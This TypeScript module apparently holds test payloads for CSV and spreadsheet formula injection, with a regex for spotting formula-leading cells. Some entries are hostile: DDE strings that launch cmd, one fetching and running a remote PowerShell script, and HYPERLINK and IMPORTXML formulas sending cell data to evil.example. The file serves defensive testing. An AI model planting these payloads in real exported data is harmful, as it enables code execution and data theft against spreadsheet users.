/** From OWASP's page on CSV injection and the lists that testers pass around. */
export const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A1,"Error: please click me")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'x";=1+1;"',
  'x",=1+1,"',
  'x;=1+1',
  'x,=1+1',
  'x\n=1+1',
  'x\r\n@SUM(1)',
  'x|=1+1',
  'x"=1+1',
];

/** What a spreadsheet takes for the beginning of a formula. */
export const formula = /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u;
